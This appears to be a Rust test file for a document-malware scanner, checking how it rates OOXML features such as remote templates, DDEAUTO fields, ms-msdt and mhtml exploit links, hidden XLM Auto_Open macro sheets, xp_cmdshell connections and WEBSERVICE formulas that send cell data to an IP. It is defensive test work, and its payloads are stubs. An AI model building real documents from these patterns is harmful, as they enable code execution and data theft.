//! Each finding of OOXML documents: a document that raises it, and one that nearly does.

use sekisho_samples::office::ooxml::Package;
use sekisho_samples::office::single_xml::base64;

use super::FORMAT;
use crate::formats::trial::{file, findings, observed, scan_artifact};
use crate::stage::Said;

fn say(package: &Package) -> Said {
    scan_artifact(&FORMAT, file("t", package.build()))
}

fn external(owner: &str, kind: &str, target: &str) -> Vec<(&'static str, &'static str)> {
    let said = findings(&say(&Package::docx("text").external(owner, kind, target)));
    said.into_iter().filter(|(id, _)| *id != "remote-host-unusual").collect()
}

#[test]
fn addresses_ports_and_foreign_shares_are_unusual() {
    let is_unusual = |kind: &str, target: &str| {
        let said = findings(&say(&Package::docx("text").external("word/settings.xml", kind, target)));
        said.iter().any(|(id, _)| *id == "remote-host-unusual")
    };
    for target in ["http://192.0.2.20/t.dotm", r"\\192.0.2.20\s\t.dotm", "http://example.com:8080/t.dotm"] {
        assert!(is_unusual("attachedTemplate", target), "{target}");
    }
    assert!(!is_unusual("attachedTemplate", "https://templates.example.com/t.dotx"));
    assert!(!is_unusual("attachedTemplate", r"\\SERVER01\forms\t.dotx"));
    assert!(!is_unusual("hyperlink", "http://192.0.2.20/"));
    assert!(!is_unusual("image", "http://192.0.2.20/a.png"));
}

#[test]
fn templates_from_elsewhere_are_said() {
    let template = |target: &str| external("word/settings.xml", "attachedTemplate", target);
    assert_eq!(template("http://192.0.2.20/t.dotm"), [("remote-template", "high")]);
    assert_eq!(template(r"\\192.0.2.20\s\t.dotm"), [("remote-template", "high")]);
    assert_eq!(template("https://templates.example.com/t.dotx"), [("remote-template", "high")]);
    assert_eq!(template(r"file:///\\SERVER01\forms\t.dotx"), [("remote-template", "low")]);
    assert_eq!(template(r"file:///C:\Users\taro\t.dotx"), []);
    let said = say(&Package::docx("t").external("word/settings.xml", "attachedTemplate", "http://192.0.2.20/t.dotm"));
    assert_eq!(said.iocs[0].value, "http://192.0.2.20/t.dotm");
    assert_eq!(said.iocs[0].context.as_deref(), Some("relationship attachedtemplate"));
}

#[test]
fn objects_from_elsewhere_are_weighed_by_host() {
    let object = |target: &str| external("word/document.xml", "oleObject", target);
    assert_eq!(object("http://192.0.2.20/a.html"), [("remote-object", "high")]);
    assert_eq!(object("https://example.com/a.xlsx"), [("remote-object", "medium")]);
    assert_eq!(object(r"file:///C:\a.xlsx!Sheet1!R1C1"), []);
    assert_eq!(external("word/document.xml", "hyperlink", "http://192.0.2.20/a"), []);
    assert_eq!(external("word/document.xml", "hyperlink", "search-ms:query=a"), [("remote-object", "high")]);
}

#[test]
fn exploit_targets_decide() {
    let decisive = |kind: &str, target: &str| {
        let said = say(&Package::docx("t").external("word/document.xml", kind, target));
        said.findings.iter().any(|finding| finding.decisive)
    };
    assert!(decisive("oleObject", "mhtml:http://example.com/x!x-usc:http://example.com/x"));
    assert!(decisive("oleObject", "MHTML:http://example.com/x!X-USC:http://example.com/x"));
    assert!(decisive("oleObject", "http://example.com/x.html!"));
    assert!(decisive("hyperlink", "ms-msdt:/id PCWDiagnostic"));
    assert!(!decisive("hyperlink", "http://example.com/wow!"));
    assert!(!decisive("oleObject", "https://example.com/book.xlsx!Sheet1!R1C1"));
}

#[test]
fn pictures_from_elsewhere_are_low_unless_a_server_path() {
    assert_eq!(external("word/document.xml", "image", "https://example.com/a.png"), [("remote-image", "low")]);
    assert_eq!(external("word/document.xml", "image", r"\\198.51.100.9\p\a.png"), [("remote-image", "high")]);
    assert_eq!(external("word/document.xml", "image", "file:///C:/a.png"), []);
}

#[test]
fn merged_documents_are_said() {
    let merged = Package::docx("t").part("word/a.rtf", "application/rtf", "{\\rtf1}").internal(
        "word/document.xml",
        "aFChunk",
        "a.rtf",
    );
    assert_eq!(findings(&say(&merged)), [("document-merges-other", "medium")]);
    let picture = Package::docx("t").part("word/a.png", "", "x").internal("word/document.xml", "image", "a.png");
    assert_eq!(findings(&say(&picture)), []);
}

fn document(body: &str) -> Package {
    let xml = format!("<w:document xmlns:w=\"w\"><w:body>{body}</w:body></w:document>");
    Package::docx("t").part(
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        xml,
    )
}

#[test]
fn dde_fields_are_said_and_page_numbers_are_not() {
    let field =
        |instruction: &str| findings(&say(&document(&format!("<w:p><w:fldSimple w:instr='{instruction}'/></w:p>"))));
    assert_eq!(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo\""), [("dde-link", "high")]);
    assert_eq!(field("DDE Excel.Sheet.12 \"book.xlsx\" \"Sheet1!R1C1\""), [("dde-link", "medium")]);
    assert_eq!(field("PAGE"), []);
    assert_eq!(
        field("INCLUDEPICTURE \\\\\\\\198.51.100.9\\\\p \\d"),
        [("remote-image", "high"), ("remote-host-unusual", "info")]
    );
    assert_eq!(field("INCLUDETEXT \"https://example.com/a.docx\""), [("remote-object", "medium")]);
    assert_eq!(field("HYPERLINK \"https://example.com/\""), []);
    let split = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText></w:r>\
                 <w:r><w:instrText>EAUTO harmless-none.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>";
    assert_eq!(findings(&say(&document(split))), [("dde-link", "high")]);
}

fn link(service: &str, topic: &str) -> Package {
    Package::xlsx("a").part(
        "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        format!("<externalLink><ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"/></externalLink>"),
    )
}

#[test]
fn dde_links_of_workbooks_are_weighed() {
    assert_eq!(findings(&say(&link("cmd", "/c harmless-none"))), [("dde-link", "high")]);
    assert_eq!(findings(&say(&link("RSS", "9984.T"))), [("dde-link", "medium")]);
}

#[test]
fn macro_sheets_are_known_by_relation_and_type() {
    const SHEET: &str = "<xm:macrosheet><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"harmless-none.exe\")</f></c></row>\
                         </sheetData></xm:macrosheet>";
    let sheet = |state: &str, name: &str| {
        let workbook = format!(
            "<workbook xmlns:r=\"r\"><sheets><sheet name=\"M\" state=\"{state}\" r:id=\"rId2\"/></sheets>\
             <definedNames><definedName name=\"{name}\">M!A1</definedName></definedNames></workbook>"
        );
        Package::xlsm("a", b"project".to_vec())
            .part("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", workbook)
            .part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", SHEET)
    };
    let related = |package: Package| {
        package.relation(
            "xl/workbook.xml",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
            "macrosheets/sheet1.xml",
            false,
        )
    };
    // The worksheet and the VBA project take the first two ids.
    let hidden = say(&related(sheet("veryHidden", "_xlnm.Auto_Open")));
    assert_eq!(
        findings(&hidden),
        [
            ("xlm-hidden-sheet", "high"),
            ("xlm-macro-sheet", "medium"),
            ("xlm-auto-open", "high"),
            ("xlm-starts-program", "high")
        ]
    );
    assert!(hidden.problems.is_empty());
    assert_eq!(findings(&say(&sheet("hidden", "Auto_Open"))), []);
}

#[test]
fn ribbon_callbacks_and_add_ins_are_said() {
    let ribbon = |xml: &str| {
        Package::docx("t").part("customUI/customUI.xml", "", xml).relation(
            "",
            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            "customUI/customUI.xml",
            false,
        )
    };
    assert_eq!(findings(&say(&ribbon("<customUI onLoad='Start'/>"))), [("custom-ui-callback", "low")]);
    assert_eq!(
        findings(&say(&ribbon("<customUI onLoad='http://example.com/a!Start'/>"))),
        [("custom-ui-callback", "high")]
    );
    assert_eq!(findings(&say(&ribbon("<customUI><ribbon/><button onAction='Module1.Click'/></customUI>"))), []);
    let remote = "<customUI><button onAction=\"'\\\\192.0.2.9\\s\\a.xlam'!Go\"/></customUI>";
    assert_eq!(findings(&say(&ribbon(remote))), [("custom-ui-callback", "high")]);
    let shown = say(&ribbon("<customUI><group getLabel='Label' getVisible='Label'/></customUI>"));
    assert_eq!(findings(&shown), [("custom-ui-callback", "low")]);
    assert!(shown.facts.iter().any(|fact| fact.key == "ribbon-callback" && fact.value == "getLabel Label"));
    let add_in = |location: &str| {
        let xml = format!(
            "<Properties><property name=\"_AssemblyLocation\"><lpwstr>{location}</lpwstr></property></Properties>"
        );
        findings(&say(&Package::docx("t").part("docProps/custom.xml", "", xml)))
    };
    assert_eq!(add_in("https://example.com/a.vsto|guid"), [("remote-add-in", "high")]);
    assert_eq!(add_in("a.vsto|guid|vstolocal"), [("document-loads-add-in", "medium")]);
    assert_eq!(add_in("4e3c66d5-58d4-491e-a7d4-64af99af6e8b"), []);
}

#[test]
fn controls_are_judged_by_class() {
    let control = |class: &str| {
        let xml = format!("<ax:ocx ax:classid=\"{{{class}}}\" xmlns:ax=\"ax\"/>");
        findings(&say(&Package::docx("t").part("word/activeX/activeX1.xml", "", xml)))
    };
    assert_eq!(control("EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B"), [("ole-dangerous-class", "critical")]);
    assert_eq!(control("8BD21D10-EC42-11CE-9E0D-00AA006002F3"), []);
}

#[test]
fn facts_are_read_and_damage_is_said() {
    let said = say(&Package::docx("t"));
    assert!(said.facts.iter().any(|fact| fact.key == "author" && fact.value == "山田太郎"));
    assert_eq!(findings(&said), []);
    let broken = Package::docx("t").part("word/_rels/extra.xml.rels", "", "<Relationships><Relationship Target=\"");
    assert_eq!(findings(&say(&broken)), [("ooxml-structure-damaged", "low")]);
}

#[test]
fn web_add_ins_are_weighed_by_their_store() {
    let add_in = |sort: &str, store: &str| {
        let xml =
            format!("<we:webextension><we:reference id='x' storeType='{sort}' store='{store}'/></we:webextension>");
        findings(&say(&Package::docx("t").part("word/webextensions/webextension1.xml", "", xml)))
    };
    assert_eq!(add_in("FileSystem", "\\\\192.0.2.9\\add"), [("document-web-add-in", "high")]);
    assert_eq!(add_in("SPCatalog", "https://example.com/apps"), [("document-web-add-in", "medium")]);
    assert_eq!(add_in("developer", "EXCatalog"), [("document-web-add-in", "low")]);
    assert_eq!(add_in("OMEX", "ja-JP"), []);
}

#[test]
fn slides_that_start_programs_are_said() {
    let slide = |action: &str| {
        let types = "application/vnd.openxmlformats-officedocument.presentationml.";
        let package = Package::docx("t")
            .part("ppt/presentation.xml", &format!("{types}presentation.main+xml"), "<p:presentation/>")
            .part(
                "ppt/slides/slide1.xml",
                &format!("{types}slide+xml"),
                format!("<a:hlinkHover r:id='rId1' action='{action}'/>"),
            )
            .external("ppt/slides/slide1.xml", "hyperlink", "none.exe%20-x");
        say(&package)
    };
    let program = slide("ppaction://program");
    assert_eq!(observed(&program, "presentation-runs-program").unwrap(), "when pointed at: none.exe%20-x");
    assert_eq!(findings(&slide("ppaction://hlinksldjump")), []);
    assert!(slide("ppaction://macro?name=Go").facts.iter().any(|fact| fact.value == "when pointed at: Go"));
}

#[test]
fn data_from_elsewhere_is_said() {
    let connection = |xml: &str| {
        let xml = format!("<connections><connection refreshOnLoad='1'>{xml}</connection></connections>");
        findings(&say(&Package::xlsx("a").part("xl/connections.xml", "", xml)))
    };
    assert_eq!(connection("<webPr url='http://192.0.2.9/a'/>"), [("workbook-fetches-data", "medium")]);
    assert_eq!(connection("<webPr url='https://example.com/rates'/>"), [("workbook-fetches-data", "low")]);
    assert_eq!(
        connection("<dbPr connection='Provider=SQLOLEDB;Server=db01' command='exec xp_cmdshell &apos;none&apos;'/>"),
        [("workbook-fetches-data", "high")]
    );
    assert_eq!(
        connection("<dbPr connection='Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$' command='SELECT 1'/>"),
        []
    );
    assert_eq!(connection("<dbPr connection='Provider=SQLOLEDB;Server=db01' command='select a from b'/>"), []);
}

#[test]
fn packages_of_power_query_are_given_and_read() {
    let formulas = |text: &str| Package::default().part("Formulas/Section1.m", "text/plain", text).build();
    let mashup = |package: &[u8]| {
        let bytes = [&[0; 4], &u32::try_from(package.len()).unwrap().to_le_bytes(), package, &[0; 12]].concat();
        let xml =
            format!("<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>{}</DataMashup>", base64(&bytes));
        let wide: Vec<u8> = [0xFF, 0xFE].into_iter().chain(xml.encode_utf16().flat_map(u16::to_le_bytes)).collect();
        say(&Package::xlsx("a").part("customXml/item1.xml", "", wide))
    };
    let package = formulas("shared a = Web.Contents(\"http://192.0.2.9/a\");");
    let said = mashup(&package);
    assert_eq!(said.children[0].bytes, package);
    let inner = scan_artifact(&FORMAT, file("Power Query", package));
    assert_eq!(findings(&inner), [("workbook-fetches-data", "medium")]);
    let honest = scan_artifact(&FORMAT, file("Power Query", formulas("shared a = Excel.CurrentWorkbook();")));
    assert_eq!(findings(&honest), []);
    assert_eq!(mashup(b"").problems.len(), 1);
}

#[test]
fn projects_under_other_names_are_said() {
    let project = |name: &str, kind: &str| {
        let package = Package::docm("t", b"x".to_vec()).part(name, kind, b"x".to_vec());
        let relation = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
        findings(&say(&package.relation("word/document.xml", relation, name.trim_start_matches("word/"), false)))
    };
    let usual = "application/vnd.ms-office.vbaProject";
    assert_eq!(project("word/vbaProject2.bin", usual), []);
    assert_eq!(project("word/media.png", usual), [("macro-project-disguised", "medium")]);
    assert_eq!(project("word/vbaProject2.bin", "image/png"), [("macro-project-disguised", "medium")]);
    let plain = Package::docx("t").vba("word/document.xml", b"x".to_vec());
    assert_eq!(findings(&say(&plain)), [("macro-project-disguised", "medium")]);
}

#[test]
fn broken_documents_are_known_and_read() {
    let whole =
        Package::docx("t").external("word/settings.xml", "attachedTemplate", "http://192.0.2.20/t.dotm").build();
    let directory = whole.windows(4).position(|bytes| bytes == b"PK\x01\x02").unwrap();
    let said = scan_artifact(&FORMAT, file("t.docx", whole[..directory].to_vec()));
    let ids: Vec<_> = findings(&said).into_iter().map(|(id, _)| id).collect();
    assert_eq!(ids, ["document-needs-repair", "remote-template", "remote-host-unusual"]);
    let said = scan_artifact(&FORMAT, file("t.docx", whole));
    assert!(!findings(&said).iter().any(|(id, _)| *id == "document-needs-repair"));
}

#[test]
fn documents_without_a_list_of_types_are_known_by_their_main_part() {
    let rename = |bytes: Vec<u8>| {
        let mut text = bytes;
        while let Some(at) = text.windows(19).position(|name| name == b"[Content_Types].xml") {
            text[at] = b'x';
        }
        text
    };
    let said = scan_artifact(&FORMAT, file("t.docx", rename(document("<w:fldSimple w:instr='DDE cmd x'/>").build())));
    let ids: Vec<_> = findings(&said).into_iter().map(|(id, _)| id).collect();
    assert_eq!(ids, ["document-needs-repair", "dde-link"]);
}

#[test]
fn strings_kept_for_macros_are_said_where_there_are_macros() {
    let variable = |package: Package, value: &str| {
        let xml = format!("<w:settings><w:docVars><w:docVar w:name='a' w:val='{value}'/></w:docVars></w:settings>");
        findings(&say(&package.part("word/settings.xml", "", xml)))
    };
    let with_macros = || Package::docm("t", b"x".to_vec());
    assert_eq!(variable(with_macros(), "http://192.0.2.9/a"), [("document-string-payload", "medium")]);
    assert_eq!(variable(with_macros(), "3"), []);
    assert_eq!(variable(Package::docx("t"), "http://192.0.2.9/a"), []);
}

#[test]
fn macro_sheets_of_binary_workbooks_are_decompiled() {
    use sekisho_samples::office::biff::{binary_sheet, binary_workbook};
    let book = binary_workbook(&[("rId1", "M", 2)], 0);
    let sheet = binary_sheet(&["EXEC(\"a\"&CHAR(66))", "GOTO(A1)"]);
    let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument";
    let macros = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
    let package = Package::default()
        .part("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", book)
        .part("xl/macrosheets/sheet1.bin", "application/vnd.ms-excel.macrosheet", sheet)
        .relation("", office, "xl/workbook.bin", false)
        .relation("xl/workbook.bin", macros, "macrosheets/sheet1.bin", false);
    let said = say(&package);
    let text: Vec<String> =
        said.children.iter().map(|child| String::from_utf8_lossy(&child.bytes).into_owned()).collect();
    assert!(text.iter().any(|text| text.contains("A1: =EXEC(\"a\"&CHAR(66))\nA2: =GOTO(A1)\n")), "{text:?}");
}

#[test]
fn formulas_that_reach_out_are_said() {
    let formula = |text: &str| {
        let sheet =
            format!("<worksheet><row><c r='A1'><f>{text}</f><v>0</v></c><c t='str'><v>a|b!c</v></c></row></worksheet>");
        findings(&say(&Package::xlsx("a").part("xl/worksheets/sheet1.xml", "", sheet)))
    };
    assert_eq!(formula("cmd|'/c none'!A1"), [("dde-link", "high")]);
    assert_eq!(formula("_xlfn.WEBSERVICE(\"http://192.0.2.9/?\"&amp;A1)"), [("workbook-fetches-data", "medium")]);
    assert_eq!(formula("_xlfn.WEBSERVICE(\"https://example.com/rate\")"), [("workbook-fetches-data", "low")]);
    assert_eq!(formula("SUM(A1:A3)"), []);
    assert_eq!(formula("CONCATENATE(A1,\"a | b\")"), []);
}

#[test]
fn parts_of_one_name_are_said() {
    let twice = |second: &str| {
        let package = Package::docx("t").part("word/footer1.xml", "", "<a/>").part("WORD\\footer1.xml", "", second);
        findings(&say(&package))
    };
    assert_eq!(twice("<b/>"), [("package-part-twice", "low")]);
    assert_eq!(twice("<a/>"), []);
}
